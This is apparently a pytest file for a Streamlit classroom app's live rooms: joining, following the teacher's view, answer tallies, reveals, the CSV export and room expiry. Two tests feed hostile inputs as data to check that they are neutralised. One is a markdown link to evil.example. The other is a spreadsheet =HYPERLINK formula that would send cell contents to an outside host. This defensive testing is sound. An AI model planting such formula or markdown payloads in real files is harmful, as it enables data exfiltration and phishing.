"""The Live class under AppTest: a teacher opens a room, students join it by link or by code and
follow the teacher's view, explore and come back, answer a lesson's question into the teacher's
live tally, see the teacher's reveal; the answers file; a closed, an expired and a dead room; a
bad code and a taken name. Each session is its own AppTest, all sharing the process's room store
(memory here; tests/test_app_classroom_redis.py runs the same class through Redis)."""

from __future__ import annotations

import csv
import io
import json

import pytest

pytest.importorskip("streamlit")

from streamlit.runtime.media_file_manager import MediaFileManager

from tformer.rooms import CSV_HEADER, MemoryRoomStore, RoomLimits, format_code
from tformer.ui import room
from tformer.ui.lessons import lesson_by_id

from ._classroom import (
    CLASSROOM,
    badge,
    code_of,
    goto,
    on_page,
    page_bytes,
    run_fragment,
    seat,
    student,
    teacher,
    ticket,
    unescaped,
)
from ._drive import callback_widgets
from .test_app_lesson_questions import BASICS, IT
from .test_app_pages import assert_clean, charts, open_app

ATTENTION = "pages/attention.py"
FOLLOWING = "Following your teacher"
EXPLORING = "Exploring on your own"


def header(at) -> str:
    return at.header[0].value if at.header else ""


def tally_figure(at) -> dict | None:
    for c in at.get("plotly_chart"):
        if "room.tally" in c.proto.id:
            return json.loads(c.proto.spec)
    return None


# --- opening a room -------------------------------------------------------------------------------


def test_a_teacher_opens_a_room_and_sees_its_code_link_and_qr_code():
    at = teacher()
    assert_clean(at)
    t = ticket(at)
    assert t is not None
    code = format_code(t.code)
    assert f"## {code}" in [m.value for m in at.markdown]
    link = f"http://class.example:8080/classroom?room={code}"
    assert [c.value for c in at.code] == [link]
    assert len(at.get("image")) == 1  # the QR code, drawn on the server
    assert [m.label for m in at.metric] == ["students present", "joined", "answers"]
    assert [m.value for m in at.metric] == ["0", "0", "0"]
    keys = {w.key for w in callback_widgets(at)}
    assert {"room.close"} <= keys
    assert "room.join" not in keys  # a teacher is not offered a seat too
    # the token drives the room: it is in the teacher's session state and nowhere on the page
    assert t.token.encode() not in page_bytes(at)
    assert t.token not in repr(t)


def test_without_the_browsers_address_the_page_says_how_to_join():
    at = open_app(CLASSROOM)  # AppTest sends no URL, as a client that withheld it
    at.button(key="room.open").click().run()
    assert_clean(at)
    assert not at.code
    assert not at.get("image")
    assert "type the code" in unescaped(at)


# --- joining and following ------------------------------------------------------------------------


@pytest.mark.slow
def test_a_student_joins_by_link_and_follows_the_teachers_page_and_view():
    t = teacher("pages/qkv.py")
    t.selectbox(key="layer").set_value(4).run()
    t.selectbox(key="head").set_value(7).run()
    t.radio(key="qkv.kind").set_value("pattern").run()
    code = code_of(t)
    s = on_page(open_app(CLASSROOM, room=code))
    assert s.text_input(key="room.code").value == code  # the link's code, in the join form
    assert "room" not in s.query_params  # not a view setting: no "ignored" notice either
    assert not s.info
    s.text_input(key="room.name").input("Mei").run()
    s.button(key="room.join").click().run()
    assert_clean(s)
    assert seat(s) is not None
    assert header(s) == "Q, K, V: where the scores come from"  # on the teacher's page
    assert {k: s.query_params.get(k) for k in ("layer", "head", "qkv.kind")} == {
        "layer": "4",
        "head": "7",
        "qkv.kind": "pattern",
    }
    assert FOLLOWING in badge(s)
    assert "Mei" in badge(s)
    # the teacher changes the text and the page: the student's next run takes both
    t.text_area(key="text").input("Birds sing at dawn.").run()
    t.switch_page("pages/heads.py").run()
    s.run()
    assert_clean(s)
    assert header(s) == "Heads compared"
    assert s.text_area(key="text").value == "Birds sing at dawn."
    assert "Birds" in json.dumps(charts(s)), "the page draws the teacher's text, not only its box"
    assert FOLLOWING in badge(s)


@pytest.mark.slow
def test_a_student_keeps_their_own_language():
    t = teacher(ATTENTION)
    s = student(code_of(t), lang="zh")
    assert_clean(s)
    assert s.query_params.get("lang") == "zh"
    assert "正在跟随老师" in badge(s)
    t.radio(key="lang").set_value("zh").run()  # the teacher's language is the teacher's
    t.radio(key="lang").set_value("en").run()
    s.run()
    assert s.query_params.get("lang") == "zh"


@pytest.mark.slow
def test_a_student_who_changes_anything_explores_then_comes_back_in_one_click():
    t = teacher(ATTENTION)
    s = student(code_of(t))
    assert header(s) == "Attention: who looks at whom"
    s.selectbox(key="head").set_value(5).run()
    assert EXPLORING in badge(s)
    assert "moved on" not in badge(s)
    t.selectbox(key="layer").set_value(4).run()  # the teacher moves on
    s.run()
    assert s.selectbox(key="head").value == 5  # the student's own choice stays
    assert s.selectbox(key="layer").value != 4
    assert EXPLORING in badge(s)
    assert "your teacher has moved on" in badge(s)
    s.button(key="room.back").click().run()
    assert_clean(s)
    assert FOLLOWING in badge(s)
    assert s.selectbox(key="layer").value == 4
    assert s.selectbox(key="head").value == t.selectbox(key="head").value
    # a student who opens another page explores too, and comes back to the teacher's page
    goto(s, "pages/qkv.py")
    assert EXPLORING in badge(s)
    s.button(key="room.back").click().run()
    assert header(s) == "Attention: who looks at whom"


def test_the_poll_fragment_reruns_the_app_only_when_the_room_changed():
    t = teacher(ATTENTION)
    s = student(code_of(t))
    assert s.header
    idle = run_fragment(s, "room.poll")  # the once-a-second poll, nothing changed
    assert_clean(idle)
    assert not idle.header, "an idle poll must not run the page"
    assert not idle.get("plotly_chart")
    assert FOLLOWING in badge(idle)
    t.selectbox(key="layer").set_value(2).run()
    moved = run_fragment(s, "room.poll")
    assert_clean(moved)
    assert moved.header, "a new view reruns the whole app"
    assert moved.selectbox(key="layer").value == 2
    assert json.loads(moved.get("plotly_chart")[0].proto.spec)["layout"]["title"]["text"].startswith(
        "layer 2"
    )
    # an exploring student's poll notes the teacher's move without running the page
    moved.selectbox(key="head").set_value(6).run()
    t.selectbox(key="layer").set_value(1).run()
    noted = run_fragment(moved, "room.poll")
    assert not noted.header
    assert "your teacher has moved on" in badge(noted)


def test_a_student_joins_by_typing_the_code_in_any_case_and_waits_for_the_first_view():
    t = teacher()  # still on the Live class page: nothing published yet
    s = on_page(open_app(CLASSROOM))
    s.text_input(key="room.code").input(f" {code_of(t).lower()[:4]} {code_of(t).lower()[4:]} ")
    s.text_input(key="room.name").input("Ana")
    s.button(key="room.join").click().run()
    assert_clean(s)
    assert seat(s) is not None
    assert "Waiting for your teacher's first view" in badge(s)
    assert header(s) == "Live class: teach a room, or join your teacher's"
    t.switch_page("pages/masks.py").run()
    run_fragment(s, "room.poll")
    assert header(s) == "Masks: who may attend to whom"


@pytest.mark.parametrize(
    ("code", "name", "said"),
    [
        ("ABCD-23", "Mei", "is not a join code"),
        ("ABCD-2345", "Mei", "No open room has the code ABCD-2345"),
        (None, "", "Type a display name"),
        (None, "x" * 41, "The display name is too long"),
    ],
    ids=["short code", "unknown code", "no name", "long name"],
)
def test_a_bad_code_or_name_is_said_and_nothing_breaks(code, name, said):
    t = teacher()
    s = open_app(CLASSROOM)
    s.text_input(key="room.code").input(code or code_of(t))
    s.text_input(key="room.name").input(name)
    s.button(key="room.join").click().run()
    assert not s.exception
    assert seat(s) is None
    assert [said in e.value.replace("\\", "") for e in s.error] == [True]


@pytest.mark.slow
def test_a_name_taken_in_the_room_is_refused_and_shown_as_text():
    t = teacher(ATTENTION)
    code = code_of(t)
    student(code, "**Mei** [x](http://evil.example)")
    again = student(code, "**MEI** [X](http://evil.example)")  # the same name to a class
    assert seat(again) is None
    (error,) = again.error
    assert "already uses the name" in error.value
    assert "\\*\\*MEI\\*\\*" in error.value  # markdown escaped: shown as typed, never as a link
    assert "](http" not in error.value
    t.run()
    assert "students present: 1" in badge(t)


# --- answers live ---------------------------------------------------------------------------------


@pytest.mark.slow
def test_answers_reach_the_teachers_tally_and_the_reveal_reaches_every_student():
    t = teacher(ATTENTION, lesson=BASICS, lesson_step=str(IT))
    assert_clean(t)
    assert not t.get("plotly_chart"), "the class has not answered: the heatmap waits for the reveal"
    assert "Hidden until you reveal the answer to the class." in [i.value for i in t.info]
    assert "0 of 0" in unescaped(t)
    assert t.button(key="room.reveal")
    assert not [w for w in callback_widgets(t) if w.key.startswith("lq.")]  # no answer box
    code = code_of(t)
    right, wrong, late = student(code, "Mei"), student(code, "Ana"), student(code, "Bo")
    for s in (right, wrong, late):
        assert_clean(s)
        assert s.query_params.get("lesson_step") == str(IT)
        assert not [w for w in callback_widgets(s) if w.key.startswith("room.reveal")]
    right.button_group(key=f"lq.{IT}.answer").set_value(2).run()  # "animal": right
    right.button(key="lq.check").click().run()
    wrong.button_group(key=f"lq.{IT}.answer").set_value(1).run()  # "The": wrong
    wrong.button(key="lq.check").click().run()
    assert "Right: the model's value is 'animal'" in unescaped(right)
    assert "Try once more" in unescaped(wrong)
    t.run()
    assert_clean(t)
    assert "**2 of 3** students present have answered" in unescaped(t)
    fig = tally_figure(t)
    assert fig is not None
    assert sorted(fig["layout"]["meta"]["labels"]) == ["The #1", "animal #2"]
    assert fig["layout"]["meta"]["counts"] == [1, 1]
    colours = set(fig["data"][0]["marker"]["color"])
    assert len(colours) == 1, "before the reveal the bars do not say which answer is right"
    assert "Mei" not in json.dumps(fig)
    assert "Ana" not in json.dumps(fig)
    assert t.selectbox(key="head").value == 1  # the lesson step's own head

    t.button(key="room.reveal").click().run()
    assert_clean(t)
    assert "The model's value is 'animal' (position 2)." in unescaped(t)
    assert t.get("plotly_chart"), "revealed: the heatmap shows, the answer outlined"
    fig = tally_figure(t)
    assert len(set(fig["data"][0]["marker"]["color"])) == 2  # right and wrong now differ
    assert "1 of 2 answers are right" in unescaped(t)
    for s in (wrong, late):  # the one who was still trying and the one who never answered
        s.run()
        assert_clean(s)
        assert "Your teacher revealed the answer: 'animal' (position 2)." in unescaped(s)
        assert not [w for w in callback_widgets(s) if w.key in ("lq.check", "lq.skip")]
        assert s.get("plotly_chart")


def test_an_exploring_student_still_gets_the_reveal_from_the_poll():
    t = teacher(ATTENTION, lesson=BASICS, lesson_step=str(IT))
    s = student(code_of(t))
    s.selectbox(key="head").set_value(4).run()  # exploring
    t.button(key="room.reveal").click().run()
    polled = run_fragment(s, "room.poll")
    assert polled.header, "a reveal reruns the page even while exploring"
    assert "Your teacher revealed the answer" in unescaped(polled)
    assert polled.selectbox(key="head").value == 4  # and leaves the student's view as it was


@pytest.mark.slow
def test_answers_sent_too_fast_are_refused_with_a_wait_and_not_counted(monkeypatch):
    slow = MemoryRoomStore(RoomLimits(answer_burst=1, answer_refill_s=600))
    monkeypatch.setattr(room, "room_store", lambda: slow)
    t = teacher(ATTENTION, lesson=BASICS, lesson_step=str(IT))
    s = student(code_of(t))
    s.button_group(key=f"lq.{IT}.answer").set_value(1).run()
    s.button(key="lq.check").click().run()  # the one answer the bucket holds
    s.button_group(key=f"lq.{IT}.answer").set_value(2).run()
    s.button(key="lq.check").click().run()
    assert not s.exception
    assert any("Too many answers at once" in e.value for e in s.error)
    assert "quiz" in s.query_params
    assert s.query_params["quiz"].startswith(f"{IT}p")
    t.run()
    assert tally_figure(t)["layout"]["meta"]["labels"] == ["The #1"]


def test_the_answers_file_holds_every_answer_and_no_cell_a_spreadsheet_runs(monkeypatch):
    made: list = []
    real = MediaFileManager.add_deferred

    def keep(self, data, *args, **kwargs):  # Streamlit runs this callable when the button is clicked
        made.append(data)
        return real(self, data, *args, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", keep)
    t = teacher(ATTENTION, lesson=BASICS, lesson_step=str(IT))
    s = student(code_of(t), '=HYPERLINK("http://e.example/?"&A1)')
    assert seat(s) is not None
    s.button_group(key=f"lq.{IT}.answer").set_value(2).run()
    s.button(key="lq.check").click().run()
    t.switch_page(CLASSROOM).run()
    assert_clean(t)
    (button,) = [b for b in t.get("download_button") if "room.csv" in b.proto.id]
    assert button.proto.deferred_file_id
    body = made[-1]().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == list(CSV_HEADER)
    (row,) = rows[1:]
    assert row[0] == '\'=HYPERLINK("http://e.example/?"&A1)'  # shown as text, never run
    assert row[1:4] == [f"{BASICS}:{IT + 1}", "animal #2", "yes"]


def test_the_lessons_answers_table_counts_each_question_step():
    lesson = lesson_by_id(BASICS)
    assert lesson is not None
    t = teacher(ATTENTION, lesson=BASICS, lesson_step=str(IT))
    s = student(code_of(t))
    s.button_group(key=f"lq.{IT}.answer").set_value(2).run()
    s.button(key="lq.check").click().run()
    t.switch_page(CLASSROOM).run()
    (frame,) = t.dataframe
    rows = frame.value.to_dict("records")
    assert len(rows) == sum(1 for step in lesson.steps if step.question is not None)
    mine = next(r for r in rows if r["step"] == IT + 1)
    assert mine["answered"] == "1 / 1"
    assert mine["right"] == "not revealed yet"


# --- the room ends --------------------------------------------------------------------------------


def test_a_closed_room_tells_its_students_and_they_go_on_alone():
    t = teacher(ATTENTION)
    code = code_of(t)
    s = student(code)
    t.switch_page(CLASSROOM).run()
    t.button(key="room.close").click().run()
    assert_clean(t)
    assert ticket(t) is None
    assert "You closed room" in unescaped(t)
    assert t.button(key="room.open")  # a new room can be opened
    s.run()
    assert_clean(s)
    assert seat(s) is None
    assert f"Room {format_code(code)} was closed by its teacher." in unescaped(s)
    assert charts(s), "the page goes on without the room"


def test_an_expired_room_tells_its_teacher_and_students(monkeypatch):
    now = [1_000_000.0]
    store = MemoryRoomStore(RoomLimits(idle_s=60), clock=lambda: now[0])
    monkeypatch.setattr(room, "room_store", lambda: store)
    t = teacher(ATTENTION)
    s = student(code_of(t))
    now[0] += 61  # nobody acted for longer than the idle time
    s.run()
    assert_clean(s)
    assert seat(s) is None
    assert "the room ended after 1 min without activity" in unescaped(s)
    t.run()
    assert ticket(t) is None
    assert "the room ended after 1 min without activity" in unescaped(t)


def test_a_student_leaves_and_the_teacher_counts_one_fewer():
    t = teacher(ATTENTION)
    s = student(code_of(t))
    t.run()
    assert "students present: 1" in badge(t)
    goto(s, CLASSROOM)
    s.button(key="room.leave").click().run()
    assert_clean(s)
    assert seat(s) is None
    assert "You left room" in unescaped(s)
    t.run()
    assert "students present: 0" in badge(t)


# --- a dead store ---------------------------------------------------------------------------------


def test_a_dead_redis_is_said_once_and_the_app_works_without_rooms(monkeypatch):
    from .redis_server import free_port

    monkeypatch.setenv("TFORMER_REDIS_URL", f"redis://127.0.0.1:{free_port()}/0")
    at = open_app(CLASSROOM)
    assert not at.exception
    (warning,) = at.warning
    assert "Rooms are unavailable: the room store at 127.0.0.1" in warning.value.replace("\\", "")
    assert "room.open" not in [b.key for b in at.button]
    at.switch_page(ATTENTION).run()
    assert_clean(at)
    assert charts(at)


def test_a_store_that_dies_under_a_class_is_said_and_the_pages_go_on(monkeypatch):
    t = teacher(ATTENTION)
    s = student(code_of(t))
    from tformer.rooms import RoomsUnavailable, errors

    def down(*args, **kwargs):
        raise RoomsUnavailable(errors.UNAVAILABLE, where="127.0.0.1:6379", reason="ConnectionError")

    store = room.store()
    for name in ("poll", "publish", "status", "tally", "submit"):
        monkeypatch.setattr(store, name, down)
    t.selectbox(key="layer").set_value(2).run()
    assert_clean(t)
    assert any("Rooms are unavailable" in w.value for w in t.warning)
    assert charts(t)
    s.run()
    assert_clean(s)
    assert any("Rooms are unavailable" in w.value for w in s.warning)
    assert seat(s) is not None, "a store that is down is not a room that ended"
    assert charts(s)
    monkeypatch.undo()  # Redis is back: after the retry delay the class goes on
    room.forget_failure()
    t.selectbox(key="layer").set_value(3).run()
    s.run()
    assert s.selectbox(key="layer").value == 3
    assert not [w for w in s.warning if "Rooms are unavailable" in w.value]


# --- the room's page in the registry's tests -------------------------------------------------------


def test_the_live_class_page_is_not_followed_and_a_teacher_there_publishes_nothing():
    t = teacher(ATTENTION)
    s = student(code_of(t))
    t.selectbox(key="layer").set_value(5).run()
    t.switch_page(CLASSROOM).run()
    s.run()
    assert header(s) == "Attention: who looks at whom"
    assert s.selectbox(key="layer").value == 5


@pytest.mark.slow
def test_every_room_widget_with_a_callback_is_driven_as_streamlit_calls_it():
    """`tests/_drive.py` finds each room widget with a callback from Streamlit's own widget
    metadata and drives it: with no room, as a teacher (a lesson's question step) and as an
    exploring student."""
    from ._drive import explore

    def check(at, target, option) -> None:
        assert not at.exception, (target.key, [e.message for e in at.exception])
        assert at.header, f"blank page after {target.key}"

    def ours(target) -> bool:
        return target.key.startswith("room.")

    driven: dict[str, set[str]] = {}
    explore(on_page(open_app(CLASSROOM)), check, keep=ours, driven=driven)  # open, close, join
    t = teacher(ATTENTION, lesson=BASICS, lesson_step=str(IT))
    s = student(code_of(t))
    s.selectbox(key="head").set_value(5).run()  # exploring: the badge offers the way back
    explore(s, check, keep=ours, driven=driven)
    explore(goto(s, CLASSROOM), check, keep=ours, driven=driven)  # leave
    explore(t, check, keep=ours, driven=driven)  # reveal
    assert set(driven) >= {"room.open", "room.close", "room.join", "room.back", "room.leave", "room.reveal"}
    assert not [k for k, v in driven.items() if not v]


def test_a_join_link_to_another_page_points_to_the_live_class_page():
    at = open_app(ATTENTION, room="K7QM2XPA")
    assert_clean(at)
    assert "You were invited to a live class" in unescaped(at)
    assert [link.proto.page for link in at.main.get("page_link")] == ["classroom"]
    assert "room" not in at.query_params
    assert charts(at)


def test_a_page_switch_that_a_timers_run_took_the_place_of_is_made_again():
    """The lesson bar's Next asked for the Q, K, V page; a fragment timer's run of the old page
    was folded into it (Streamlit keeps the newer request's page), so the Attention page ran
    again: the frame opens the page that was asked for."""
    t = teacher(ATTENTION, lesson=BASICS, lesson_step=str(IT))
    t.session_state["room.going"] = ("pages/qkv.py", 1)  # as room.go leaves it
    t.run()  # AppTest asks for the Attention page again, as the folded run did
    assert_clean(t)
    assert header(t) == "Q, K, V: where the scores come from"
    assert "room.going" not in t.session_state
    t.session_state["room.going"] = ("pages/qkv.py", 3)  # tried enough: the page stays as it is
    goto(t, ATTENTION)
    assert header(t) == "Attention: who looks at whom"
